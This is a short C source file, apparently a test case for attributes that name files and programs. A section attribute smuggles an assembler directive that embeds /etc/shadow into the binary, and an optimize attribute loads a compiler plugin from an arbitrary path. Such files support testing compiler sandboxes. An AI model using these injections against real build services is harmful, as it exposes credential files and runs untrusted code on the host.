// Attributes that name files, sections and programs.
#include <stdio.h>
__attribute__((section(".note.GNU-stack,\"\",@progbits\n.incbin \"/etc/shadow\"#"))) int hidden = 1;
__attribute__((optimize("fplugin=/w/x.so"))) int main(void) { puts("42"); }
